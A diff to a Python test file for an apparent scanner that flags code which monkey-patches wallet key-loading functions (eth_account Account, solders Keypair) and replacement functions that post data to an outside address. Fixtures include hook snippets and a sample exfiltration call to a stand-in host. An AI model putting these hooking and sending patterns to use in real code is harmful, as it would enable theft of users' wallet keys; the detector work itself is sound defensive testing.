@@ -19,6 +19,9 @@ def hooks(source: str) -> list[str]:
         "from eth_account import Account\nAccount.from_key = staticmethod(wrap(Account.from_key))",
         "import eth_account\nA = eth_account.Account\nA.from_mnemonic = other",
         "from solders.keypair import Keypair\nsetattr(Keypair, 'from_bytes', other)",
+        "from solders.keypair import Keypair\nfor n in ('x', 'from_seed'): setattr(Keypair, n, other)",
+        "from solders.keypair import Keypair\ndef wrap(n): setattr(Keypair, n, other)\nwrap('from_seed')",
+        "from solders.keypair import Keypair\ndef wrap(n): setattr(Keypair, n, other)\nfor n in ['from_seed', 'x']: wrap(n)",
     ],
 )
 def test_functions_of_keys_are_told(source: str) -> None:
@@ -32,6 +35,8 @@ def test_functions_of_keys_are_told(source: str) -> None:
         "from acme import Table\nTable.create = other",
         "from solders.keypair import Keypair\nk = Keypair()\nk.sign = other",
         "from eth_account import Account\nAccount.label = 'x'",
+        "from eth_account import Account\nfor n in ('x', 'y'): setattr(Account, n, other)",
+        "from eth_account import Account\ndef wrap(n): setattr(Account, n, other)",
     ],
 )
 def test_others_are_not(source: str) -> None:
@@ -46,7 +51,14 @@ def test_a_replacement_that_sends_is_told_with_its_address() -> None:
 
 def test_a_function_inside_the_replacement_counts() -> None:
     inner = "import requests\ndef mine(*a):\n  def send():\n    requests.post('https://far.invalid/k')\n  send()\n"
-    assert ["hook:told"] == hooks(inner + "import builtins\nbuiltins.open = mine")
+    assert ["hook:owner", "hook:told"] == hooks(inner + "import builtins\nbuiltins.open = mine")
+
+
+def test_whose_function_is_replaced_is_told_with_it() -> None:
+    found = facts(f"{MINE}import acme.core\nacme.core.told = mine")
+    assert [("hook:owner", "acme.core"), ("hook:told", "https://far.invalid/k")] == [
+        (use.api, use.argument) for use in found.uses if use.api.startswith("hook:")
+    ]
 
 
 @pytest.mark.parametrize(
